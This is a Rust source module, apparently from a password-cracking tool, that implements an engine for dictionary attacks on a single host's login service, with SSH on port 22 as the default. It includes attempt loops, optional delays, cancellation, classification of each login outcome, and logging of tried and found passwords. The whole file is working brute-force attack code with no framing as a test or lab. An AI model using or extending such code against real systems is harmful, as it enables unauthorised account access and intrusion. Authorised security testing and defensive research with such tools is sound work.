use crate::classifier::{AttemptClassifier, AttemptOutcome};
use crate::host::ResolvedHost;
use crate::transport::Authenticator;
use log::{debug, info, warn};
use std::fmt;
use std::net::SocketAddr;
use std::time::Duration;
use tokio::time::sleep;
use tokio_util::sync::CancellationToken;

pub const DEFAULT_SSH_PORT: u16 = 22;

/// Used whenever the configured per-attempt timeout is zero.
pub const DEFAULT_ATTEMPT_TIMEOUT: Duration = Duration::from_secs(10);

/// Immutable parameters of an attack loop.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct AttackSettings {
    pub port: u16,
    pub attempt_timeout: Duration,
    pub delay_between_attempts: Duration,
}

impl AttackSettings {
    pub fn new(port: u16, attempt_timeout: Duration) -> Self {
        Self {
            port,
            attempt_timeout,
            delay_between_attempts: Duration::ZERO,
        }
        .normalized()
    }

    pub fn with_delay(mut self, delay: Duration) -> Self {
        self.delay_between_attempts = delay;
        self
    }

    /// Replace a zero timeout with [`DEFAULT_ATTEMPT_TIMEOUT`].
    pub fn normalized(mut self) -> Self {
        if self.attempt_timeout.is_zero() {
            self.attempt_timeout = DEFAULT_ATTEMPT_TIMEOUT;
        }
        self
    }
}

impl Default for AttackSettings {
    fn default() -> Self {
        Self::new(DEFAULT_SSH_PORT, DEFAULT_ATTEMPT_TIMEOUT)
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum AbortReason {
    Unreachable(String),
    Protocol(String),
    Cancelled,
}

impl fmt::Display for AbortReason {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            AbortReason::Unreachable(reason) => write!(f, "host unreachable: {}", reason),
            AbortReason::Protocol(reason) => write!(f, "protocol error: {}", reason),
            AbortReason::Cancelled => write!(f, "cancelled"),
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum AttackResult {
    Found(String),
    /// Every candidate was rejected.
    NotFound,
    Aborted(AbortReason),
}

impl AttackResult {
    pub fn password(&self) -> Option<&str> {
        match self {
            AttackResult::Found(password) => Some(password),
            _ => None,
        }
    }
}

/// Dictionary attack against a single resolved host.
///
/// Candidates are tried strictly in order, one at a time. The loop stops
/// at the first success, or at the first connection or protocol failure
/// since those would repeat for every remaining candidate.
pub struct AttackEngine {
    settings: AttackSettings,
    authenticator: Box<dyn Authenticator>,
    classifier: Box<dyn AttemptClassifier>,
}

impl AttackEngine {
    pub fn new(
        settings: AttackSettings,
        authenticator: Box<dyn Authenticator>,
        classifier: Box<dyn AttemptClassifier>,
    ) -> Self {
        Self {
            settings: settings.normalized(),
            authenticator,
            classifier,
        }
    }

    pub fn settings(&self) -> &AttackSettings {
        &self.settings
    }

    pub async fn attack<I, S>(&self, host: &ResolvedHost, candidates: I, cancel: &CancellationToken) -> AttackResult
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let target = SocketAddr::new(host.ip(), self.settings.port);
        let username = host.username();

        info!(
            "Starting {} dictionary attack on {}@{}",
            self.authenticator.service_name(),
            username,
            target
        );

        let mut attempts = 0usize;
        for candidate in candidates {
            if cancel.is_cancelled() {
                info!("Attack on {} cancelled after {} attempts", target, attempts);
                return AttackResult::Aborted(AbortReason::Cancelled);
            }

            if attempts > 0 && !self.settings.delay_between_attempts.is_zero() {
                tokio::select! {
                    _ = cancel.cancelled() => {
                        info!("Attack on {} cancelled after {} attempts", target, attempts);
                        return AttackResult::Aborted(AbortReason::Cancelled);
                    }
                    _ = sleep(self.settings.delay_between_attempts) => {}
                }
            }

            let password = candidate.as_ref();
            attempts += 1;

            let raw = self
                .authenticator
                .attempt_login(target, username, password, self.settings.attempt_timeout)
                .await;

            match self.classifier.classify(raw) {
                AttemptOutcome::Success => {
                    info!("Password for {}@{} found after {} attempts", username, target, attempts);
                    return AttackResult::Found(password.to_string());
                }
                AttemptOutcome::AuthRejected => {
                    debug!("Attempt {} rejected for {}@{}: {}", attempts, username, target, password);
                }
                AttemptOutcome::Unreachable(reason) => {
                    warn!("Aborting {}: {}", target, reason);
                    return AttackResult::Aborted(AbortReason::Unreachable(reason));
                }
                AttemptOutcome::ProtocolError(reason) => {
                    warn!("Aborting {}: {}", target, reason);
                    return AttackResult::Aborted(AbortReason::Protocol(reason));
                }
            }
        }

        info!("Dictionary exhausted for {}@{} after {} attempts", username, target, attempts);
        AttackResult::NotFound
    }
}
